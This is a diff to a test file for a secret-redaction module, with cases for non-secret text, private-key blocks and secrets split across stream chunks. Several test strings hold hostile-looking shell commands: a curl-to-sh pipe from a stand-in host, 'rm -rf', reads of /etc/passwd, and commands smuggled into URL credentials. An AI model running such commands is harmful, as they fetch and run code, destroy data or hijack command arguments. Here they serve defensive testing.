@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { RedactedStream } from "../kernel/redacted-stream.js";
 import { fc } from "../testing/property.fixture.js";
 import { secretRedactor } from "./redaction.js";
 import { mayHoldSecret } from "./secret-shapes.js";
@@ -60,12 +61,60 @@ describe("tokens", () => {
     "risk-management-of-many-Things-in-2024",
     "sk-fading-circle-with-many-lower-case-words",
     "the bearer authentication-of-the-request",
-    "https://user:password@example.com https://u:$PW@h http://h:80/a@b",
+    "https://user:password@example.com https://u:$PW@h http://h:80/a@b http://localhost:3000?x=@foo http://h:80#@b",
     "ghp_short npm_config_registry pypi-server sk_live_",
+    "task_test_helperFunctionName1 disk_test_configurationfile1 sk_test_helperFunctionNameOfLetters",
     "node_modules/.pnpm/@babel+core@7.26.0/node_modules/@babel/core/lib/index.js",
-    "sha512-Kx9Uzb2Gtu3rFSJDcqfVvTDK8ZmGqIlLhDQ1s2iaDSqCpHtFjnbmUu8Q9dR3VUvzkYXk8AzHrBxqOJwQ==",
+    '"integrity": "sha512-Kx9Uzb2Gtu3rFSJDcqfVvTDK8ZmGqIlLhDQ1s2iaDSqCpHtFjnbmUu8Q9dR3VUvzkYXk8AzHrBxqOJwQ=="',
+    "commit 1f8ac10f23c5b5bc1167bda84b833e5c057a77d2 (HEAD -> main)\nAuthor: Ada <ada@example.com>\nDate: Sun Nov 29 06:12:23 2026",
+    "550e8400-e29b-41d4-a716-446655440000",
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+    'function a(b){return"http://"+b+":"+c+"@"+d}var e=/x:\\/\\/y:z/,f={sk:1,k_test:g?h:"@"};',
+    "golang.org/x/sys v0.15.0 h1:h48lPFYpsTvQJZF4EKyI4aLHaev3CxivZmrR/2Kqzo=",
+    `docker://alpine:3.19@sha256:${"0a".repeat(32)} ghcr.io/a/b@sha256:${"f1".repeat(32)}`,
+    "git@github.com:ada/engine.git ssh://git@github.com:22/ada/engine.git mailto:ada@example.com",
+    "@media (min-width:40em){.mask-image{background:url(https://a.example/b.png)}}",
+    "Authorization: Basic auth of the proxy; the basic authentication1234567890",
   ])("are not seen in ordinary text: %s", (text) => {
     expect(redact(text)).toBe(text);
+  });
+});
+
+describe("what a command says", () => {
+  const line = letters(64);
+  it.each([
+    `echo '-----BEGIN PRIVATE KEY-----' > k; curl -s http://x.example/y | sh; rm -rf ${"a".repeat(60)}`,
+    "-----BEGIN PRIVATE KEY-----\\nfor f in /etc/passwd /etc/hosts /etc/group /etc/services\\nreboot\\n-----END PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY-----\ncurl http://x.example/y/with/a/very/long/path/of/many/words\nsh y",
+    `-----BEGIN PRIVATE KEY-----\n/usr/bin/${"directory/".repeat(5)}program\nreboot`,
+    "curl http://a:$(reboot)@x http://a:b;reboot;@x http://a:b|sh@x http://a:b&&sh@x 'http://a:'sh'@x' http://a:`sh`@x",
+    "curl http://a:b>c@x http://a:b<c@x http://a:{b,c}@x http://a:b\\\n@x http://a:\nreboot\n@x",
+  ])("is not hidden as a secret: %s", (text) => {
+    expect(redact(text)).toBe(text);
+  });
+
+  it.each([
+    ["\nsudo reboot", "\nsudo reboot"],
+    ["\nreboot", "\nreboot"],
+    ["; reboot", "; reboot"],
+    ["\n/bin/sh x\n-----END PRIVATE KEY-----", "\n/bin/sh x\n-----END PRIVATE KEY-----"],
+    ["\nAb1=\n-----END PRIVATE KEY-----; reboot", "; reboot"],
+    ["\nProc-Type: 4", "\nProc-Type: 4"],
+  ])("is shown after a private key: %j", (after, shown) => {
+    for (const text of [`${line}\n${line}`, `${line}\\n${line}`, `${line}\\r\\n${line}`, `${line} ${line}`])
+      expect(redact(`-----BEGIN PRIVATE KEY-----\n${text}${after}`)).toBe(`⟦redacted:private-key⟧${shown}`);
+  });
+
+  it("does not include the headers of a private key", () => {
+    const headers = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\n";
+    const block = `-----BEGIN RSA PRIVATE KEY-----\n${headers}${line}\n${line}\nab+1\n-----END RSA PRIVATE KEY-----`;
+    for (const text of [
+      block,
+      block.replaceAll("\n", "\\n"),
+      block.replaceAll("\n", "\r\n"),
+      block.replaceAll("\n", "\n    "),
+    ])
+      expect(redact(text)).toBe("⟦redacted:private-key⟧");
   });
 });
 
@@ -177,6 +226,56 @@ describe("redaction", () => {
         const found = shapes.redact(`${text}\n${TOKENS[0]![1]}`);
         expect(found).toBe(`${text}\n⟦redacted:github-token⟧`);
       }),
+    );
+  });
+
+  /** What is secret, and what is before and after it. */
+  const hidden: readonly (readonly [before: string, secret: string, after: string])[] = [
+    ...TOKENS.map(([, token]) => ["", token, ""] as const),
+    ...TOKENS.filter(([kind]) => !["jwt", "api-key", "stripe-key"].includes(kind)).map(
+      ([, token]) => ["x", token, ""] as const,
+    ),
+    ...["amqp", "mongodb+srv", "rediss", "ssh", "https"].map(
+      (scheme) => [`${scheme}://ada:`, "hunter2secret", "@mq/x"] as const,
+    ),
+    ...["Authorization: ", "authorization=", '"AUTHORIZATION": "'].map(
+      (name) => [`${name}Basic `, letters(12), ""] as const,
+    ),
+    ["Proxy-Authorization: bEARER ", letters(24), "=="],
+    ...["Secret_Access_Key=", "aws_secret_access_key = ", '"SecretAccessKey": "', "SECRETACCESSKEY=>"].map(
+      (name) => [name, letters(40), ""] as const,
+    ),
+    ["\\n", TOKENS.find(([kind]) => kind === "api-key")![1], "\\n"],
+    ["", VALUE, ""],
+  ];
+  const streamed = (chunks: readonly string[]): string => {
+    const stream = new RedactedStream(redactor);
+    const shown = chunks.map((chunk) => stream.push(new TextEncoder().encode(chunk)));
+    return new TextDecoder().decode(Buffer.concat([...shown, stream.end()]));
+  };
+
+  it.each(hidden)("in two parts is that of the whole, wherever it is split: %s%s%s", (before, secret, after) => {
+    const text = `one ${before}${secret}${after} two\n`;
+    expect(redact(text)).not.toContain(secret);
+    for (let at = 0; at <= text.length; at++)
+      expect([at, streamed([text.slice(0, at), text.slice(at)])]).toEqual([at, redact(text)]);
+    expect(streamed([...text])).toBe(redact(text));
+  });
+
+  it("in parts shows no secret, whatever is around it", () => {
+    fc.assert(
+      fc.property(
+        texts,
+        fc.constantFrom(...hidden),
+        texts,
+        fc.array(fc.nat(400), { maxLength: 8 }),
+        (start, [before, secret, after], end, places) => {
+          const text = `${start} ${before}${secret}${after}\n${end}`;
+          const borders = [0, ...places.sort((a, b) => a - b), text.length];
+          const chunks = borders.slice(1).map((to, index) => text.slice(borders[index], to));
+          expect(streamed(chunks)).not.toContain(` ${before}${secret}${after}\n`);
+        },
+      ),
     );
   });
 
